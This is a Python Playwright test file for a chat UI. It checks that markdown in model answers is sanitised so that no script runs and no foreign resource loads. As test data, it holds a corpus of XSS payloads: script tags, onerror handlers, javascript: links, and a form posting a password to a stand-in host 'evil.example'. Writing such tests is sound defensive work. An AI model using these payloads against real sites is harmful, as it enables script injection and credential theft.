"""Model output is untrusted (SPEC §11): markdown is rendered, and nothing in it can run or load."""

from __future__ import annotations

from pathlib import Path

from playwright.async_api import Request, expect
from starlette.applications import Starlette
from starlette.requests import Request as HttpRequest
from starlette.responses import Response
from starlette.routing import Route

from tests.ui.conftest import UI, OpenUI, UIFactory
from tests.utils import run_server
from vernis.model.scripted import Reply

PAYLOAD = """Here is the **summary** you asked for.
<script>window.__pwned = "script"</script>

<img src=x onerror="window.__pwned = 'onerror'">

[click me](javascript:window.__pwned='link') and [also me](JaVaScRiPt:window.__pwned='mixed-case')

<a href="javascript:window.__pwned='anchor'">raw anchor</a> <a href="data:text/html,<script>alert(1)</script>">data link</a>

![tracker](http://evil.example/pixel.png)

<iframe src="javascript:window.__pwned='iframe'"></iframe><svg onload="window.__pwned='svg'"></svg>

<p style="position:fixed;inset:0" onclick="window.__pwned='click'">overlay</p>

<form action="http://evil.example/steal"><input name="password"></form>

Read [the docs](https://docs.example.com/guide) or open [a contact](/contacts).
"""


async def test_model_answer_with_script_onerror_and_javascript_link_runs_nothing(ui: UI) -> None:
    """An answer carrying <script>, an onerror image, javascript: links, iframes and a foreign image renders as inert, safe markup."""
    requests: list[str] = []

    def record(request: Request) -> None:
        requests.append(request.url)

    ui.page.on("request", record)
    ui.vernis.scripted.add(Reply(PAYLOAD), match="summary")
    await ui.open()
    await ui.send("give me the summary")
    answer = await ui.answered()
    await expect(answer.locator("strong")).to_have_text("summary")
    # Give an image error handler every chance to run.
    await ui.page.wait_for_timeout(300)
    assert await ui.page.evaluate("() => window.__pwned") is None

    markdown = answer.locator(".markdown")
    for tag in ("script", "iframe", "svg", "form", "input", "style"):
        await expect(markdown.locator(tag)).to_have_count(0)
    # Raw HTML from the model is shown as its text, never parsed: no image from `<img src=x>`; the
    # markdown image from another host is named, not loaded.
    images = await markdown.locator("img").evaluate_all("images => images.map(image => image.src)")
    assert images == []
    await expect(markdown).to_contain_text("overlay")
    await expect(markdown).to_contain_text("raw anchor")
    assert "__pwned" not in await markdown.inner_text()
    handlers = await markdown.evaluate(
        """root => [...root.querySelectorAll("*")].flatMap(element =>
            [...element.attributes].map(attribute => attribute.name)
                .filter(name => name.startsWith("on") || name === "style"))"""
    )
    assert handlers == []
    hrefs = await markdown.locator("a").evaluate_all("links => links.map(link => link.getAttribute('href'))")
    assert hrefs == [None, None, "https://docs.example.com/guide", "/contacts"]
    await expect(markdown.get_by_role("link", name="the docs")).to_have_attribute(
        "rel", "noopener noreferrer nofollow"
    )
    await expect(markdown.get_by_role("link", name="the docs")).to_have_attribute("target", "_blank")
    await expect(markdown.get_by_role("link", name="a contact")).not_to_have_attribute("target", "_blank")
    await expect(markdown.locator(".blocked-image")).to_have_text("[image: tracker]")
    assert not [url for url in requests if "evil.example" in url]

    # Clicking what used to be a javascript: link runs nothing either.
    await markdown.get_by_text("click me").click()
    assert await ui.page.evaluate("() => window.__pwned") is None


async def test_user_text_is_shown_as_text(ui: UI) -> None:
    """What the user types is shown as typed, never parsed as HTML."""
    ui.vernis.scripted.add(Reply("ok"), match="<b>")
    await ui.open()
    await ui.send('<b>bold?</b> <img src=x onerror="window.__pwned = 1">')
    await ui.answered()
    bubble = ui.log.locator(".msg.user .bubble")
    await expect(bubble).to_have_text('<b>bold?</b> <img src=x onerror="window.__pwned = 1">')
    await expect(bubble.locator("b, img")).to_have_count(0)
    assert await ui.page.evaluate("() => window.__pwned") is None


# Hostile markdown the sanitizer must neutralise without the browser ever evaluating it: each line
# would break the page's Content-Security-Policy if the dirty markup were parsed in a live document.
HOSTILE = [
    '<img src="http://evil.example/a.png" onerror="alert(1)">',
    '<div style="background:url(http://evil.example/b.png)">styled</div>',
    "<style>@import url(http://evil.example/c.css); body { color: red }</style>",
    '<svg><image href="http://evil.example/d.png"/></svg>',
    '<video poster="http://evil.example/e.png"></video>',
    '<link rel="stylesheet" href="http://evil.example/f.css">',
    '<iframe src="http://evil.example/g"></iframe>',
    '<object data="http://evil.example/h"></object>',
    '<table background="http://evil.example/i.png"><tr><td>cell</td></tr></table>',
    '<input type="image" src="http://evil.example/j.png">',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<base href="http://evil.example/">',
    '<script src="http://evil.example/k.js"></script>',
    '<p onmouseover="alert(1)" style="color:red">hover</p>',
    "![pixel](http://evil.example/l.png)",
]

# Every CSP violation in the page (the panel's shadow root included), as the page sees it.
WATCH_CSP = """() => {
    window.__violations = [];
    document.addEventListener("securitypolicyviolation", (event) => {
        window.__violations.push(event.violatedDirective + " " + event.blockedURI);
    }, true);
}"""


async def test_hostile_markdown_causes_no_csp_report(ui: UI) -> None:
    """A corpus of hostile markup, streamed in many frames, is neutralised without one CSP violation or request to its hosts."""
    requests: list[str] = []
    ui.page.on("request", lambda request: requests.append(request.url))
    await ui.page.evaluate(WATCH_CSP)
    ui.vernis.scripted.add(
        Reply("\n\n".join(["Careful now.", *HOSTILE, "Done."]), chunk_delay=0.005), match="hostile"
    )
    await ui.open()
    await ui.send("hostile corpus")
    answer = await ui.answered()
    await expect(answer).to_contain_text("Done.")
    # The markdown image from another host is named; the raw `<img>` is only text.
    await expect(answer.locator(".blocked-image")).to_have_count(1)
    await ui.screenshot("hostile-markdown.png")
    assert await ui.page.evaluate("window.__violations") == []
    assert [url for url in requests if "evil.example" in url] == []
    assert [message for message in ui.console_errors if "Content Security Policy" in message] == []


async def test_an_image_is_fetched_once_and_sized_to_the_column(ui: UI) -> None:
    """An image in a streamed answer is requested once (not per frame), even when it fails, and never wider than the column."""
    ui.console_errors_expected = True  # the missing image's 404
    requests: list[str] = []
    ui.page.on("request", lambda request: requests.append(request.url))
    words = " ".join(f"word{n}" for n in range(60))
    # An SVG with a viewBox and no size of its own (it would take any width it is given), and a
    # missing image (no cache for a 404: every new <img> would ask again).
    text = f"A diagram: ![wide](/static/demo/favicon.svg) and ![logo](/static/vernis/missing.png)\n\n{words}"
    ui.vernis.scripted.add(Reply(text, chunk_delay=0.02), match="diagram")
    await ui.open()
    await ui.send("diagram please")
    answer = await ui.answered()
    await expect(answer).to_contain_text("word59")
    await expect(answer.locator("img")).to_have_count(2)
    assert [url for url in requests if url.endswith("/static/vernis/missing.png")] == [
        f"{ui.url}/static/vernis/missing.png"
    ]
    assert len([url for url in requests if url.endswith("/favicon.svg")]) == 1
    column = await answer.evaluate("(e) => e.getBoundingClientRect().width")
    for image in await answer.locator("img").all():
        box = await image.bounding_box()
        assert box is not None
        assert box["width"] <= column + 0.5
        assert box["height"] <= 320.5


SQUARE = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><rect width="40" height="40"/></svg>'
)


async def test_images_load_only_from_vernis_and_the_configured_origins(
    ui_factory: UIFactory, open_ui: OpenUI, tmp_path: Path
) -> None:
    """With `[embed] image_origins` naming an image server, an answer's image from it loads; one from another origin is shown as its alt text and never requested."""
    asked: list[str] = []

    async def image(request: HttpRequest) -> Response:
        asked.append(request.url.path)
        return Response(SQUARE, media_type="image/svg+xml")

    async with run_server(Starlette(routes=[Route("/{name}", image)])) as images:
        allowed = f"http://127.0.0.1:{images.config.port}"
        # The same server under another name: another origin, not listed.
        other = f"http://localhost:{images.config.port}"
        config = tmp_path / "vernis.toml"
        config.write_text(f'[embed]\nimage_origins = ["{allowed}/"]\n', encoding="utf-8")
        async with ui_factory(config=config) as vernis:
            ui = await open_ui(vernis)
            requests: list[str] = []
            ui.page.on("request", lambda request: requests.append(request.url))
            vernis.scripted.add(
                Reply(f"Our logo: ![logo]({allowed}/logo.svg) and ![tracker]({other}/pixel.svg)"),
                match="logo",
            )
            await ui.open()
            await ui.send("show the logo")
            answer = await ui.answered()
            logo = answer.locator("img")
            await expect(logo).to_have_count(1)
            await expect(logo).to_have_attribute("src", f"{allowed}/logo.svg")
            await expect(logo).to_have_js_property("complete", True)
            assert await logo.evaluate("(image) => image.naturalWidth") == 40
            await expect(answer.locator(".blocked-image")).to_have_text("[image: tracker]")
    assert asked == ["/logo.svg"]
    assert [url for url in requests if "pixel" in url] == []
